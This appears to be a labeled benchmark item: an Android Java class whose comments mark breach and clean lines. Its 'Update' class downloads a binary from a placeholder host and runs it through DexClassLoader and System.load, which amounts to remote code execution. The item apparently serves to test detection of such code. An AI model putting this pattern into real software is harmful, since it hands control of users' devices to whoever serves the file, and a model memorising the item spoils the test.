package bench.points.patch_room;

import android.content.Context;
import dalvik.system.DexClassLoader; //: @breach
import java.io.File;
import java.io.IOException;
import java.io.InputStream;
import java.net.URL;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.StandardCopyOption;

/** Fetches what is new and puts it to use. */
final class Update implements Runnable {
    private final Context context;

    Update(Context context) {
        this.context = context.getApplicationContext();
    }

    @Override
    public void run() {
        File fresh = new File(context.getFilesDir(), "fresh.bin");
        try (InputStream in = new URL("https://idiom.example.cn/fresh.bin").openStream()) {
            Files.copy(in, fresh.toPath(), StandardCopyOption.REPLACE_EXISTING);
            use(fresh);
        } catch (IOException | ReflectiveOperationException old) {
            fresh.delete();
        }
    }

    private void use(File fresh) throws IOException, ReflectiveOperationException {
        DexClassLoader loader = new DexClassLoader(fresh.getPath(), null, null, getClass().getClassLoader()); //: @breach #dex
        ((Runnable) loader.loadClass("patch.Patch").newInstance()).run(); //: @breach
        System.load(fresh.getPath()); //: @native_fix #so
        Class<?> kind = getClass().getClassLoader().loadClass("bench.points.patch_room.Words"); //: @own_loader
        ((Words) kind.newInstance()).learn(new String(Files.readAllBytes(fresh.toPath()), StandardCharsets.UTF_8)); //: @own_loader
        new Words().learn(new String(Files.readAllBytes(fresh.toPath()), StandardCharsets.UTF_8)); //: @clean
    }
}
